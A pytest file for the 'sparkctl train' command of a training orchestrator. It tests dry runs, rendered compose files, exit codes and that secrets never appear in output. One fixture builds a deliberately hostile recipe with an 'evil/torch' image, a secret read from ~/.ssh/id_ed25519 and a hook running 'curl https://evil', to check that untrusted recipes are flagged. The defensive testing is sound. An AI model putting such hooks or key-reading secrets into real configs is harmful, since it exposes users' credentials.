"""`sparkctl train`, as far as it goes without an engine."""

import json
import re
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from orchestrator.doctor.found import checks_before
from orchestrator.errors import ConnectError, RunError
from orchestrator.runs.launch import Prepared
from orchestrator.runs.preflight import Checked
from orchestrator.spec.load import load_stack
from orchestrator.stack.occupancy import Occupancy
from tests.cli.conftest import Sparkctl
from tests.cli.test_cluster import differ, take_in
from tests.support.clusters import ROOT
from tests.support.fakes import FakeCluster
from tests.support.recipes import OURS
from training.contract.record import RunRecord
from training.plan.known import KNOWN


def off(site: FakeCluster, *names: str) -> None:
    site.refused = {name: ConnectError(f"{name} cannot be reached", node=name) for name in names}


def parts(text: str) -> list[object]:
    """The compose file and the configs of a dry run."""
    return list(yaml.safe_load_all(text))


def test_a_dry_run_of_the_example_needs_no_machine(sparkctl: Sparkctl) -> None:
    """Real name resolution of spark-a.local; no packet leaves for a machine that there is not."""
    ran = sparkctl("train", "llama3-70b-lora", "--render")
    assert ran.code == 0
    assert ran.stderr.count("note: ") == 2
    compose, training, *accelerate = parts(ran.stdout)
    assert isinstance(compose, dict)
    assert set(compose["services"]) == {"rank0", "rank1"}
    assert compose["secrets"]["HF_TOKEN"]["external"] is True
    assert isinstance(training, dict)
    assert training["model"]["name"] == "meta-llama/Llama-3.1-70B-Instruct"
    assert [a["machine_rank"] for a in accelerate] == [0, 1]  # type: ignore[index]


@pytest.mark.parametrize("stack", OURS)
def test_every_stack_can_be_looked_at_without_machines(
    stack: str, sparkctl: Sparkctl, site: FakeCluster
) -> None:
    off(site, "spark-a", "spark-b")
    ran = sparkctl("train", stack, "--dry-run", "--render")
    assert ran.code == 0
    assert "<spark-a: fabric address>" in ran.stdout
    shown = sparkctl("train", stack, "--dry-run").stdout
    training = load_stack(stack).training
    known = training is not None and training.model.name in KNOWN
    why = "not all nodes were read; on Sparks it would fit" if known else "HF_HUB_OFFLINE is set"
    assert shown.startswith(f"verdict   not known: {why}")
    assert shown.rstrip().endswith("Rendered files: --render")
    head = shown.partition("\nsample ")[0]  # data that are built in are shown, too
    assert len(head.splitlines()) <= 12


def test_a_dry_run_with_machines_shows_what_they_say(sparkctl: Sparkctl, site: FakeCluster) -> None:
    take_in(site)
    shown = sparkctl("train", "tiny-llama-lora", "--dry-run").stdout
    assert shown.startswith("verdict   fits: ")
    assert "ranks     0 spark-a (192.168.100.1), 1 spark-b (192.168.100.2)" in shown
    assert "check     gpu: spark-a: nvidia-smi does not answer" in shown
    ran = sparkctl("train", "tiny-llama-lora", "--render")
    assert (ran.code, ran.stderr) == (0, "")
    assert "192.168.100.1" in ran.stdout
    assert "node.id == id-of-spark-b" in ran.stdout
    assert "<" not in ran.stdout
    assert [machine.changes for machine in site.machines.values()] == [[], []]


def test_a_dry_run_of_what_does_not_fit_has_an_exit_code_of_its_own(
    sparkctl: Sparkctl, site: FakeCluster
) -> None:
    take_in(site)
    ran = sparkctl(
        "train", "qwen3-8b-lora", "--dry-run", "--set", "training.loop.gradient_checkpointing=false"
    )
    assert ran.stdout.startswith("verdict   does not fit: full rows take")
    assert "it would fit with --set training.loop.gradient_checkpointing=true" in ran.stdout
    assert ran.code == 11


def evil_recipe(tmp_path: Path) -> str:
    text = (ROOT / "stacks" / "tiny-llama-lora.yaml").read_text()
    key = tmp_path / ".ssh" / "id_ed25519"
    key.parent.mkdir()
    key.write_text("s3cret-key\n")
    key.chmod(0o600)
    (tmp_path / "net.yaml").write_text(
        f"{text}\nbase_image: evil/torch\nsecrets: [{{name: KEY, file: ~/.ssh/id_ed25519}}]\n"
        "gang: {hooks: [{command: [curl, https://evil]}]}\n"
    )
    return "./net.yaml"


def test_a_recipe_from_elsewhere_is_asked_about_each_time(
    sparkctl: Sparkctl, site: FakeCluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    take_in(site)
    monkeypatch.setattr("orchestrator.api.runs.start", started := Started())
    recipe = evil_recipe(tmp_path)
    for _ in range(2):
        ran = sparkctl("train", recipe, "--detach")
        assert ran.code == 8
        assert "  base image: everything runs in evil/torch\n" in ran.stderr
        assert "or its file ~/.ssh/id_ed25519\n" in ran.stderr
        assert "  hook: runs `curl https://evil` on rank 0" in ran.stderr
        assert "Add --trust-recipe" in ran.stderr
        assert "s3cret" not in ran.stdout + ran.stderr
    assert not site.connected and not started.runs
    assert sparkctl("train", recipe, "--detach", "--trust-recipe").code == 0
    assert len(started.runs) == 1


def test_a_recipe_that_is_shipped_or_harmless_is_not_asked_about(
    sparkctl: Sparkctl, site: FakeCluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    take_in(site)
    monkeypatch.setattr("orchestrator.api.runs.start", started := Started())
    text = (ROOT / "stacks" / "tiny-llama-lora.yaml").read_text()
    (tmp_path / "mine.yaml").write_text(text)
    assert sparkctl("train", "mine.yaml", "--detach").code == 0
    ran = sparkctl("train", "tiny-llama-lora", "--detach", "--set", "base_image=mine")
    assert ran.code == 0
    assert len(started.runs) == 2


def test_a_dry_run_says_which_file_is_read_and_asks_nothing(
    sparkctl: Sparkctl, site: FakeCluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    take_in(site)
    ran = sparkctl("train", evil_recipe(tmp_path), "--dry-run")
    assert ran.code == 0
    file = tmp_path / ".ssh" / "id_ed25519"
    assert f"secret    KEY from the file {file} of this computer" in ran.stdout
    assert "may do    hook: runs `curl https://evil` on rank 0" in ran.stdout
    assert "s3cret" not in ran.stdout + ran.stderr
    monkeypatch.setenv("KEY", "s3cret-variable")
    ran = sparkctl("train", "./net.yaml", "--render")
    assert "# secret KEY: from the variable KEY of this command\n" in ran.stdout
    assert "# hook: runs `curl https://evil` on rank 0" in ran.stdout
    assert "s3cret" not in ran.stdout + ran.stderr


@dataclass
class Started:
    """In the place of what starts a run."""

    runs: list[Prepared] = field(default_factory=list)

    def __call__(self, spec: object, prepared: Prepared, *_: object, **__: object) -> RunRecord:
        self.runs.append(prepared)
        return prepared.record


def test_a_dry_run_shows_the_settings(sparkctl: Sparkctl, site: FakeCluster) -> None:
    off(site, "spark-a", "spark-b")
    setting = "training.loop.max_steps=123"
    ran = sparkctl("train", "tiny-llama-lora", "--set", setting, "--render")
    training = parts(ran.stdout)[1]
    assert isinstance(training, dict)
    assert training["loop"]["max_steps"] == 123


def test_a_dry_run_never_shows_a_secret(
    sparkctl: Sparkctl, site: FakeCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    take_in(site)
    for how in (("--dry-run",), ("--render",), ("--dry-run", "--json")):
        ran = sparkctl("train", "llama3-70b-lora", *how)
        assert ran.code == 0
        assert "HF_TOKEN" in ran.stdout
        assert "hf_secret" not in ran.stdout + ran.stderr


def test_a_dry_run_as_one_document(sparkctl: Sparkctl, site: FakeCluster) -> None:
    take_in(site)
    document = json.loads(sparkctl("train", "tiny-llama-lora", "--dry-run", "--json").stdout)
    assert (document["kind"], document["verdict"]["answer"]) == ("DryRun", "fits")
    assert document["time"]["steps_at_most"] == 60
    assert document["unread"] == []
    (compose,) = parts(document["rendered"]["compose"])
    assert isinstance(compose, dict) and set(compose["services"]) == {"rank0", "rank1"}
    rendered = sparkctl("train", "tiny-llama-lora", "--render").stdout
    assert [file["name"] for file in document["rendered"]["configs"]] == [
        line.removeprefix("# config ")
        for line in rendered.replace(compose_name(rendered), document["run"]).splitlines()
        if line.startswith("# config ")
    ]
    off(site, "spark-b")
    document = json.loads(sparkctl("train", "tiny-llama-lora", "--dry-run", "--json").stdout)
    assert [error["node"] for error in document["unread"]] == ["spark-b"]
    assert document["findings"] == [] and document["image"]["to_build"] is None


def compose_name(rendered: str) -> str:
    """The run that was rendered."""
    return rendered.splitlines()[0].rpartition(" ")[2]


def test_a_dry_run_does_not_hide_what_machines_have_against_it(
    sparkctl: Sparkctl, site: FakeCluster
) -> None:
    ran = sparkctl("train", "tiny-llama-lora", "--dry-run")
    assert ran.code == 10
    assert "spark-a is not in the swarm" in ran.stderr


def test_training_before_up(sparkctl: Sparkctl, site: FakeCluster) -> None:
    ran = sparkctl("train", "tiny-llama-lora")
    assert ran.code == 10
    assert ran.stderr.startswith("error E800: spark-a is not in the swarm")
    assert "sparkctl cluster up" in ran.stderr


def test_training_without_the_secret(sparkctl: Sparkctl, site: FakeCluster) -> None:
    take_in(site)
    ran = sparkctl("train", "llama3-70b-lora")
    assert ran.code == 10
    assert "export HF_TOKEN=" in ran.stderr


def test_training_needs_no_root(sparkctl: Sparkctl, site: FakeCluster) -> None:
    """Whoever may use Docker may train."""
    differ(site, "spark-a", groups=["docker"])
    sparkctl("train", "tiny-llama-lora")
    (command,) = site.machines["spark-a"].commands
    assert "-w /var/run/docker.sock" in command


def test_checks_that_are_to_be_skipped_are_those_that_there_are(sparkctl: Sparkctl) -> None:
    names = {check.name for check in checks_before("train")}
    shown = sparkctl("explain", "checks", file=None).stdout
    assert names <= set(re.findall(r"^([a-z]+) +check$", shown, re.M)) and "gpu" in names
    ran = sparkctl("train", "tiny-llama-lora", "--skip-check", "gpus")
    assert (ran.code, "'gpus' is not one of gpu, " in ran.stderr) == (2, True)


def test_progress_of_an_image_is_shown_as_it_is(
    sparkctl: Sparkctl, site: FakeCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Lines of pip and of Docker are full of brackets, which are markup to rich."""
    line = "RUN [/bin/sh] [notice] A new release of pip [bold]"

    def build(prepared: Prepared, nodes: object, images: object, say: object) -> None:
        say("spark-a", line)  # type: ignore[operator]
        raise RunError("enough")

    monkeypatch.setattr("orchestrator.api.starting.build_images", build)
    monkeypatch.setattr("orchestrator.api.starting.require_free_gpus", lambda *_: Occupancy())
    monkeypatch.setattr("orchestrator.api.starting.read", lambda *_: {})
    monkeypatch.setattr("orchestrator.api.starting.preflight", lambda *_: Checked([], {}))
    take_in(site)
    ran = sparkctl("train", "tiny-llama-lora")
    assert ran.code == 10
    assert line in ran.stderr


def test_a_stack_file_of_ones_own(sparkctl: Sparkctl, site: FakeCluster, tmp_path: Path) -> None:
    off(site, "spark-a", "spark-b")
    (tmp_path / "mine.yaml").write_text(
        "apiVersion: sparkctl/v1\nkind: Stack\nname: mine\ndescription: mine\ntraining:\n"
        "  model: {name: 'builtin:tiny-llama'}\n  data: {name: 'builtin:instructions'}\n"
    )
    ran = sparkctl("train", "mine.yaml", "--render")
    assert ran.code == 0
    assert ran.stdout.startswith("# docker stack deploy --resolve-image never -c - mine-")


def test_a_name_of_one_s_own(sparkctl: Sparkctl) -> None:
    ran = sparkctl("train", "tiny-llama-lora", "--render", "--name", "mine-7")
    assert (ran.code, "mine-7" in ran.stdout) == (0, True)
    for name in ("last", "Mine", "a_b", "x" * 38):
        ran = sparkctl("train", "tiny-llama-lora", "--dry-run", "--name", name)
        assert (ran.code, "--name my-run-1" in ran.stderr) == (3, True), name
